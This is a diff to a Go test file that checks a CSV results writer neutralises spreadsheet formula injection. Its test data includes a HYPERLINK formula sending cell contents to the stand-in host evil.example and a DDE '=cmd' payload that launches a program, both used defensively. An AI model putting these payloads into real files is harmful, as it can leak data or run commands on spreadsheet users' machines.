@@ -5,6 +5,7 @@ import (
 	"encoding/csv"
 	"errors"
 	"reflect"
+	"strconv"
 	"testing"
 
 	"github.com/guestflow/guestflow/pkg/events"
@@ -34,5 +35,33 @@ func TestWriteResults(t *testing.T) {
 	}
 	if !reflect.DeepEqual(got, want) {
 		t.Errorf("results\n%q\nwant\n%q", got, want)
+	}
+}
+
+// TestWriteResultsNeutralisesFormulas: a hostile sheet's cells come back in
+// the email and error columns, and the result file is opened in a
+// spreadsheet.
+func TestWriteResultsNeutralisesFormulas(t *testing.T) {
+	var rows []Row
+	for i, cell := range []string{`=HYPERLINK("http://evil.example?"&A1,"x")`, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "ana@fabrikam.com", "a=b"} {
+		rows = append(rows, Row{Line: i + 3, Email: cell, Status: Rejected, ID: cell,
+			Err: &events.FieldError{Field: "email", Problem: "bad"}})
+	}
+	rows = append(rows, Row{Line: 20, Email: "x@y.example", Status: Duplicate, Err: errors.New("=cmd|' /C calc'!A0")})
+	var buf bytes.Buffer
+	if err := WriteResults(&buf, rows); err != nil {
+		t.Fatal(err)
+	}
+	got, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, want := range []string{`'=HYPERLINK("http://evil.example?"&A1,"x")`, "'+1+1", "'-2+3", "'@SUM(1)", "'\t=1", "'\r=1", "ana@fabrikam.com", "a=b"} {
+		if r := got[i+1]; r[1] != want || r[3] != want || r[0] != strconv.Itoa(i+3) {
+			t.Errorf("row %d: %q, want email and onboardingid %q", i, r, want)
+		}
+	}
+	if r := got[len(got)-1]; r[4] != "'=cmd|' /C calc'!A0" || r[2] != "duplicate" {
+		t.Errorf("error cell %q", r)
 	}
 }
